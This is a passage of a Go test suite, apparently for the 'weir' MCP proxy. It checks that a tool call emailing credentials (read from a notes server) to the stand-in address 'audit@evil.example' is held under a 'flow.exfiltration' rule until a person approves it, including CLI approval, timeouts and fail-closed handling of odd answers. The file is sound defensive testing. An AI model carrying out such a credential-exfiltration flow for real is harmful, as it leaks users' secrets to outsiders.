		t.Errorf("approved call: %+v", r)
	}
	if r := got.Results[2]; !r.IsError || r.Error != "" || !declinedRe.MatchString(r.Text) || !contains(r.Text, "mail/send_email", "flow.exfiltration") {
		t.Errorf("declined call: %+v", r)
	}
	if len(got.Elicitations) != 2 {
		t.Fatalf("the client was asked %d times, want 2: %+v", len(got.Elicitations), got.Elicitations)
	}
	for _, e := range got.Elicitations {
		if e.Server != "mail" {
			t.Errorf("asked by %s", e.Server)
		}
		checkApprovalRequest(t, approvalRequest{Mode: e.Mode, Message: e.Message, RequestedSchema: e.RequestedSchema}, true, "mail/send_email", "flow.exfiltration", "notes/read_note", "$.body", "audit@evil.example")
	}
	if s := f.sent(t); len(s) != 1 || s[0].Subject != "approved" {
		t.Errorf("the mail server sent %+v, want the approved message only", s)
	}
	wantAudits(t, f.env.home, "elicitation/approved", "elicitation/declined")
	assertNoDemoSecretAtRest(t, f.env.home)
}

type elicitClientOut struct {
	ProtocolVersions map[string]string
	Results          []struct {
		IsError bool
		Text    string
		Error   string
	}
	Elicitations []struct {
		Server          string
		Mode            *string
		Message         string
		RequestedSchema json.RawMessage
	}
}

// runElicitClient runs testdata/npm/elicit-client.mjs on a scenario given
// on its standard input.
func runElicitClient(t *testing.T, script []string, scenario map[string]any) elicitClientOut {
	t.Helper()
	data, err := json.Marshal(scenario)
	if err != nil {
		t.Fatal(err)
	}
	ctx := ctxT(t, 90*time.Second)
	cmd := exec.CommandContext(ctx, script[0], script[1], "-")
	cmd.Stdin = bytes.NewReader(data)
	var stderr syncBuffer
	cmd.Stderr = &stderr
	out, err := cmd.Output()
	if err != nil {
		t.Fatalf("TypeScript client: %v\n%s", err, stderr.String())
	}
	var got elicitClientOut
	if err := json.Unmarshal(out, &got); err != nil {
		t.Fatalf("client output %q: %v", out, err)
	}
	for _, s := range demoSecrets {
		if strings.Contains(stderr.String(), s) {
			t.Errorf("the secret %q appeared in stderr", s)
		}
	}
	return got
}

// weirCLI runs a weir command the way a person does in another terminal:
// the same WEIR_HOME, but not the agent's session.
func (f *approvalFixture) weirCLI(t *testing.T, wantCode int, args ...string) string {
	t.Helper()
	cmd := exec.Command(weirBin, args...)
	var env []string
	for _, kv := range os.Environ() {
		if !strings.HasPrefix(kv, "WEIR_SESSION=") && !strings.HasPrefix(kv, "WEIR_HOME=") {
			env = append(env, kv)
		}
	}
	cmd.Env = append(env, "WEIR_HOME="+f.env.home, "NO_COLOR=1")
	var stderr bytes.Buffer
	cmd.Stderr = &stderr
	out, err := cmd.Output()
	code := 0
	if ee, ok := err.(*exec.ExitError); ok {
		code = ee.ExitCode()
	} else if err != nil {
		t.Fatalf("weir %v: %v", args, err)
	}
	if code != wantCode {
		t.Fatalf("weir %v: exit %d, want %d\nstdout:\n%s\nstderr:\n%s", args, code, wantCode, out, stderr.String())
	}
	return string(out)
}

// pendingEntry returns the entry of `weir approvals --json` with the id
// (an object with a string member equal to it, at any depth), or nil.
func pendingEntry(t *testing.T, out, id string) map[string]any {
	t.Helper()
	var v any
	if err := json.Unmarshal([]byte(out), &v); err != nil {
		t.Fatalf("weir approvals --json printed %q: %v", out, err)
	}
	var found map[string]any
	var walk func(v any)
	walk = func(v any) {
		switch x := v.(type) {
		case map[string]any:
			for _, e := range x {
				if s, ok := e.(string); ok && s == id {
					found = x
					return
				}
			}
			for _, e := range x {
				walk(e)
			}
		case []any:
			for _, e := range x {
				walk(e)
			}
		}
	}
	walk(v)
	return found
}

// blockedForApproval checks a result is the out-of-band block and returns
// its approval id.
func blockedForApproval(t *testing.T, text string, isErr bool) string {
	t.Helper()
	m := approvalIDRe.FindStringSubmatch(text)
	if !isErr || m == nil {
		t.Fatalf("not blocked for approval: isError %v %q", isErr, text)
	}
	id := m[1]
	if !approvalIDFormRe.MatchString(id) {
		t.Errorf("approval id %q is not 10 lowercase base32 characters ([a-z2-7])", id)
	}
	if !strings.Contains(text, fmt.Sprintf(needsApprovalIDText, id, id)) {
		t.Errorf("the block does not give the commands as the contract does (%q):\n%s", fmt.Sprintf(needsApprovalIDText, id, id), text)
	}
	if !contains(text, "mail/send_email", "flow.exfiltration") {
		t.Errorf("the block does not name the tool and rule:\n%s", text)
	}
	return id
}

// TestApprovalOutOfBand: a client without elicitation. The call is blocked
// with an approval id; the real `weir approvals --json` lists it with its
// tool and rule; `weir approve ID` lets the identical call through once,
// and only the identical call; `weir deny ID` keeps the retry blocked;
// `weir approve --session ID` lets the tool through for the session.
func TestApprovalOutOfBand(t *testing.T) {
	f := newApprovalFixture(t, approvalPolicy)
	ctx := ctxT(t, 120*time.Second)
	notes := f.connectGo(t, ctx, "notes", "2025-11-25", "", nil)
	mail := f.connectGo(t, ctx, "mail", "2025-11-25", "", nil)
	readCredentials(t, ctx, notes)

	args := leak("please approve")
	text, isErr := call(t, ctx, mail, "send_email", args)
	id := blockedForApproval(t, text, isErr)
	f.wantSent(t, 0, "blocked for approval")

	list := f.weirCLI(t, 0, "approvals", "--json")
	entry := pendingEntry(t, list, id)
	if entry == nil {
		t.Fatalf("weir approvals --json does not list %s:\n%s", id, list)
	}
	if e := string(mustJSON(entry)); !contains(e, "send_email", "flow.exfiltration") {
		t.Errorf("the pending request does not name the tool and rule: %s", e)
	}
	if human := f.weirCLI(t, 0, "approvals"); !contains(human, id, "send_email") {
		t.Errorf("weir approvals does not list %s:\n%s", id, human)
	}
	t.Logf("weir approve %s:\n%s", id, f.weirCLI(t, 0, "approve", id))

	// The approval covers this call only: other arguments ask again.
	other := leak("something else")
	text, isErr = call(t, ctx, mail, "send_email", other)
	otherID := blockedForApproval(t, text, isErr)
	if otherID == id {
		t.Errorf("a call with other arguments got the approved id %s", id)
	}
	f.wantSent(t, 0, "other arguments after approve")

	// The identical call is forwarded, once.
	if text, isErr := call(t, ctx, mail, "send_email", args); isErr || !strings.Contains(text, "sent to") {
		t.Fatalf("the approved call: isError %v %q", isErr, text)
	}
	f.wantSent(t, 1, "approved retry")
	text, isErr = call(t, ctx, mail, "send_email", args)
	again := blockedForApproval(t, text, isErr)
	if again == id {
		t.Errorf("the second retry got the spent id %s again", id)
	}
	f.wantSent(t, 1, "second retry")

	// weir deny: the retry stays blocked.
	t.Logf("weir deny %s:\n%s", again, f.weirCLI(t, 0, "deny", again))
	if text, isErr := call(t, ctx, mail, "send_email", args); !isErr {
		t.Errorf("the denied call went through: %q", text)
	} else {
		t.Logf("denied retry: %s", text)
	}
	f.wantSent(t, 1, "denied retry")
	if entry := pendingEntry(t, f.weirCLI(t, 0, "approvals", "--json"), again); entry != nil && strings.Contains(string(mustJSON(entry)), `"pending"`) {
		t.Errorf("the denied request is still pending: %v", entry)
	}

	// weir approve --session: the tool, to that recipient, for the session.
	f.weirCLI(t, 0, "approve", "--session", otherID)
	for i := range 2 {
		if text, isErr := call(t, ctx, mail, "send_email", other); isErr {
			t.Errorf("call %d after approve --session: %q", i, text)
		}
	}
	f.wantSent(t, 3, "approve --session")
	wantAudits(t, f.env.home, "cli/pending", "cli/approved", "cli/declined")
	assertNoDemoSecretAtRest(t, f.env.home)
	verifyAudit(t, f.env.home)
}

// TestApprovalOutOfBandModern: a 2026-07-28 client without elicitation
// gets the out-of-band block too, not input_required.
func TestApprovalOutOfBandModern(t *testing.T) {
	f := newApprovalFixture(t, approvalPolicy)
	ctx := ctxT(t, 90*time.Second)
	notes := f.connectGo(t, ctx, "notes", "2026-07-28", "", nil)
	mail := f.connectGo(t, ctx, "mail", "2026-07-28", "", nil)
	readCredentials(t, ctx, notes)
	args := leak("modern")
	text, isErr := call(t, ctx, mail, "send_email", args)
	id := blockedForApproval(t, text, isErr)
	f.weirCLI(t, 0, "approve", id)
	if text, isErr := call(t, ctx, mail, "send_email", args); isErr {
		t.Fatalf("the approved call: %q", text)
	}
	f.wantSent(t, 1, "approved")
}

// rawElicitPeer starts a raw 2025-11-25 client of the mail proxy that
// declares elicitation with caps, and never answers anything by itself.
func (f *approvalFixture) rawElicitPeer(t *testing.T, caps string) *peer {
	t.Helper()
	p := startPeer(t, f.environ(""), f.argv("mail")...)
	p.send(`{"jsonrpc":"2.0","id":1,"method":"initialize","params":{"protocolVersion":"2025-11-25","capabilities":{"elicitation":` + caps + `},"clientInfo":{"name":"raw","version":"1"}}}`)
	if m := next(t, p, 30*time.Second); string(m.ID) != "1" || m.Error != nil {
		t.Fatalf("initialize: %+v", m)
	}
	p.send(`{"jsonrpc":"2.0","method":"notifications/initialized"}`)
	return p
}

// rawMsg is a message and the line it came in.
type rawMsg struct {
	msg
	raw []byte
}

// next returns the next message from p, failing after d.
func next(t *testing.T, p *peer, d time.Duration) rawMsg {
	t.Helper()
	m, ok := nextOr(t, p, d)
	if !ok {
		t.Fatalf("no message within %s; stderr:\n%s", d, p.stderr.String())
	}
	return m
}

// nextOr returns the next message from p, or false after d or when p
// closes its output.
func nextOr(t *testing.T, p *peer, d time.Duration) (rawMsg, bool) {
	t.Helper()
	select {
	case l, ok := <-p.lines:
		if !ok {
			return rawMsg{}, false
		}
		return rawMsg{parse(t, l), l}, true
	case <-time.After(d):
		return rawMsg{}, false
	}
}

// TestApprovalTimeouts: a client that declares elicitation (as {}) but
// never answers gets the call blocked when the approval timeout passes,
// answered exactly once, and a late answer changes nothing; a client that
// disconnects while the person is being asked sends nothing.
func TestApprovalTimeouts(t *testing.T) {
	f := newApprovalFixture(t, approvalTimeoutPolicy)
	ctx := ctxT(t, 120*time.Second)
	notes := f.connectGo(t, ctx, "notes", "2025-11-25", "", nil)
	readCredentials(t, ctx, notes)

	t.Run("unanswered", func(t *testing.T) {
		p := f.rawElicitPeer(t, `{}`)
		p.send(`{"jsonrpc":"2.0","id":2,"method":"tools/call","params":{"name":"send_email","arguments":` + string(mustJSON(leak("unanswered"))) + `,"_meta":{"progressToken":"tok-1"}}}`)
		start := time.Now()
		var elicitID json.RawMessage
		var answer rawMsg
		progress := 0
		for answer.ID == nil {
			m := next(t, p, 30*time.Second)
			switch {
			case m.Method == "elicitation/create":
				if elicitID != nil {
					t.Errorf("asked twice: %s", m.raw)
				}
				elicitID = m.ID
				if !elicitationIDRe.MatchString(string(m.ID)) {
					t.Errorf("elicitation id %s, want \"weir-approval-<32 hex>\"", m.ID)
				}
				var params struct {
					Params approvalRequest `json:"params"`
				}
				json.Unmarshal(m.raw, &params)
				checkApprovalRequest(t, params.Params, true, "mail/send_email", "flow.exfiltration", "notes/read_note")
			case m.Method == "notifications/progress":
				if !strings.Contains(string(m.raw), `"progressToken":"tok-1"`) {
					t.Errorf("progress for another token: %s", m.raw)
				}
				progress++
			case m.isRequest():
				p.send(answerServerRequest(m.msg))
			case string(m.ID) == "2":
				answer = m
			}
		}
		waited := time.Since(start)
		if elicitID == nil {
			t.Fatal("answered without asking the client")
		}
		text, isErr := resultText(t, answer.msg)
		if !isErr || !nobodyAnsweredRe.MatchString(text) || !contains(text, "mail/send_email") {
			t.Errorf("unanswered approval: isError %v %q", isErr, text)
		}
		if waited < approvalTimeout-200*time.Millisecond || waited > approvalTimeout+8*time.Second {
			t.Errorf("answered after %s, want about the approval timeout %s", waited, approvalTimeout)
		}
		t.Logf("blocked after %s with %d progress notifications: %s", waited, progress, text)
		// A late approval changes nothing: no second answer, nothing sent.
		p.send(`{"jsonrpc":"2.0","id":` + string(elicitID) + `,"result":` + approveAnswer + `}`)
		deadline := time.Now().Add(time.Second)
		for {
			m, ok := nextOr(t, p, time.Until(deadline))
			if !ok {
				break
			}
			if string(m.ID) == "2" {
				t.Errorf("call 2 was answered twice: %s", m.raw)
			}
		}
		p.close()
		f.wantSent(t, 0, "unanswered")
	})

	t.Run("disconnect", func(t *testing.T) {
		p := f.rawElicitPeer(t, `{"form":{}}`)
		p.send(callLine("2", "send_email", leak("disconnect")))
		for {
			m := next(t, p, 30*time.Second)
			if m.Method == "elicitation/create" {
				break
			}
			if string(m.ID) == "2" {
				t.Fatalf("answered without asking: %s", m.raw)
			}
		}
		p.close()
		f.wantSent(t, 0, "client gone")
	})
	wantAudits(t, f.env.home, "elicitation/timeout")
	verifyAudit(t, f.env.home)
}

// TestApprovalProgressWhileWaiting: while a call that carried a
// progressToken waits for the person, Weir sends notifications/progress
// for that token; the answer that comes after still decides the call.
func TestApprovalProgressWhileWaiting(t *testing.T) {
	f := newApprovalFixture(t, approvalPolicy+"approval:\n  timeout: 40s\n")
	ctx := ctxT(t, 90*time.Second)
	notes := f.connectGo(t, ctx, "notes", "2025-11-25", "", nil)
	readCredentials(t, ctx, notes)
	p := f.rawElicitPeer(t, `{"form":{}}`)
	p.send(`{"jsonrpc":"2.0","id":2,"method":"tools/call","params":{"name":"send_email","arguments":` + string(mustJSON(leak("progress"))) + `,"_meta":{"progressToken":7}}}`)
	var elicitID json.RawMessage
	for elicitID == nil {
		m := next(t, p, 30*time.Second)
		if m.Method == "elicitation/create" {
			elicitID = m.ID
		} else if string(m.ID) == "2" {
			t.Fatalf("answered without asking: %s", m.raw)
		}
	}
	start := time.Now()
	var progress rawMsg
	for progress.Method == "" {
		m, ok := nextOr(t, p, 35*time.Second-time.Since(start))
		if !ok {
			t.Fatalf("no notifications/progress within %s of the question", time.Since(start).Round(time.Second))
		}
		switch {
		case m.Method == "notifications/progress":
			progress = m
		case string(m.ID) == "2":
			t.Fatalf("answered while waiting: %s", m.raw)
		}
	}
	t.Logf("progress after %s: %s", time.Since(start).Round(time.Millisecond), progress.raw)
	if !strings.Contains(string(progress.raw), `"progressToken":7`) {
		t.Errorf("progress for another token: %s", progress.raw)
	}
	p.send(`{"jsonrpc":"2.0","id":` + string(elicitID) + `,"result":{"action":"decline"}}`)
	for {
		m := next(t, p, 30*time.Second)
		if string(m.ID) == "2" {
			if text, isErr := resultText(t, m.msg); !isErr || !declinedRe.MatchString(text) {
				t.Errorf("declined after progress: isError %v %q", isErr, text)
			}
			break
		}
	}
	p.close()
	f.wantSent(t, 0, "declined")
}

// TestApprovalElicitationOddAnswers: only an accepted approve lets a held
// call through. An error, an accept without content, an unknown decision
// or a result that is no ElicitResult blocks it (fail closed), and the
// channel still works afterwards.
func TestApprovalElicitationOddAnswers(t *testing.T) {
	f := newApprovalFixture(t, approvalPolicy)
	ctx := ctxT(t, 90*time.Second)
	notes := f.connectGo(t, ctx, "notes", "2025-11-25", "", nil)
	readCredentials(t, ctx, notes)
	p := f.rawElicitPeer(t, `{"form":{}}`)
	ask := func(t *testing.T, id, subject string) json.RawMessage {
		t.Helper()
		p.send(callLine(id, "send_email", leak(subject)))
		for {
			m := next(t, p, 30*time.Second)
			if m.Method == "elicitation/create" {
				return m.ID
			}
			if string(m.ID) == id {
				t.Fatalf("answered without asking: %s", m.raw)
			}
		}
	}
	answer := func(t *testing.T, id string) (string, bool) {
		t.Helper()
		for {
			m := next(t, p, 30*time.Second)
			if m.isRequest() {
				t.Fatalf("asked again: %s", m.raw)
			}
			if string(m.ID) == id {
				if m.Error != nil {
					t.Fatalf("call %s: JSON-RPC error %+v, want a tool result", id, m.Error)
				}
				return resultText(t, m.msg)
			}
		}
	}
	for i, a := range []struct{ name, reply string }{
		{"error", `"error":{"code":-32603,"message":"the client broke"}`},
		{"accept without content", `"result":{"action":"accept"}`},
		{"unknown decision", `"result":{"action":"accept","content":{"decision":"yes"}}`},
		{"decision in another case", `"result":{"action":"accept","content":{"decision":"Approve"}}`},
		{"decision not a string", `"result":{"action":"accept","content":{"decision":true}}`},
		{"unknown action", `"result":{"action":"approve","content":{"decision":"approve"}}`},
		{"not an object", `"result":"approve"`},
	} {
		t.Run(a.name, func(t *testing.T) {
			id := fmt.Sprint(10 + i)
			eid := ask(t, id, a.name)
			p.send(`{"jsonrpc":"2.0","id":` + string(eid) + `,` + a.reply + `}`)
			if text, isErr := answer(t, id); !isErr {
				t.Errorf("%s let the call through: %q", a.name, text)
			}
			f.wantSent(t, 0, a.name)
		})
	}
	t.Run("approve", func(t *testing.T) {
		eid := ask(t, "30", "approve")
		p.send(`{"jsonrpc":"2.0","id":` + string(eid) + `,"result":` + approveAnswer + `}`)
		if text, isErr := answer(t, "30"); isErr {
			t.Errorf("approved call: %q", text)
		}
		f.wantSent(t, 1, "approve")
	})
}
